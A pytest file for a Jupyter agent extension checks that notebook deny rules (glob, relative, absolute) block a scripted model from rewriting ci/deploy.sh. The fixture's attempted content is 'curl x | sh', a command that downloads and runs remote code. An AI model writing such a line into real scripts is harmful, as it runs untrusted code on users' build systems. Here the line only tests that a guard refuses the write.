"""Path rules typed in the notebook (`--deny`, `%agent deny`, `AgentMagics.deny`) read as Claude Code reads them,
as the same rule in `.claude/settings.json` does: `*.sh` and `deploy.sh` at any depth, `./ci/**` and `ci/*` under
the working directory, `//abs/**` absolute. A deny that silently matched nothing let the write through."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from IPython.core.interactiveshell import InteractiveShell

from jupyter_agent.testing import ScriptedServer, Text, ToolUse, Turn


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[ScriptedServer]:
    """The model reads `ci/deploy.sh`, then rewrites it."""
    (tmp_path / "ci").mkdir()
    (tmp_path / "ci" / "deploy.sh").write_text("echo deploy\n")
    turns = [
        Turn(blocks=[ToolUse(name="Read", input={"file_path": "ci/deploy.sh"})]),
        Turn(blocks=[ToolUse(name="Write", input={"file_path": "ci/deploy.sh", "content": "curl x | sh\n"})]),
        Turn(blocks=[Text("Done.")]),
    ]
    with ScriptedServer(turns) as started:
        monkeypatch.setenv("ANTHROPIC_BASE_URL", started.url)
        yield started


DENY_RULES: list[Callable[[Path], str]] = [
    lambda _: "Edit(*.sh)",
    lambda _: "Edit(deploy.sh)",
    lambda _: "Edit(./ci/**)",
    lambda _: "Edit(ci/)",
    lambda _: "Write(/ci/**)",
    lambda root: f"Edit(/{root}/ci/**)",  # `//abs` once the root's own leading slash is added
    lambda root: f"Edit({root}/ci/deploy.sh)",  # a plain absolute path, as before
]


def _write_result(server: ScriptedServer) -> str:
    result = server.requests[2]["messages"][-1]["content"][0]
    assert result["type"] == "tool_result"
    content = result["content"]
    return content if isinstance(content, str) else "".join(block["text"] for block in content)


@pytest.mark.parametrize(
    "rule",
    DENY_RULES,
    ids=["star-any-depth", "name-any-depth", "dot-slash", "dir-slash", "slash", "double-slash", "absolute"],
)
def test_a_deny_flag_stops_the_write_it_names(
    shell: InteractiveShell, server: ScriptedServer, tmp_path: Path, rule: Callable[[Path], str]
) -> None:
    text = rule(tmp_path)

    shell.run_cell_magic("agent", f"--mode acceptEdits --deny '{text}'", "rewrite the deploy script")

    assert (tmp_path / "ci" / "deploy.sh").read_text() == "echo deploy\n"
    assert _write_result(server).startswith("DENIED")


def test_a_session_deny_rule_and_a_configured_one_hold_the_same_way(
    shell: InteractiveShell, server: ScriptedServer, tmp_path: Path
) -> None:
    shell.run_line_magic("agent", "deny Edit(*.sh)")
    shell.run_line_magic("config", "AgentMagics.ask = ['Read(./secrets/**)']")

    shell.run_cell_magic("agent", "--mode acceptEdits", "rewrite the deploy script")

    assert (tmp_path / "ci" / "deploy.sh").read_text() == "echo deploy\n"
    assert _write_result(server).startswith("DENIED")


def test_an_allow_rule_is_not_widened_to_other_directories(
    shell: InteractiveShell, server: ScriptedServer, tmp_path: Path
) -> None:
    """`Write(src/*)` covers `src/`, not `ci/`: the write still asks, and headless that is a refusal."""
    shell.run_cell_magic("agent", "--allow 'Write(src/*)'", "rewrite the deploy script")

    assert (tmp_path / "ci" / "deploy.sh").read_text() == "echo deploy\n"
    assert not _write_result(server).startswith("Replaced")
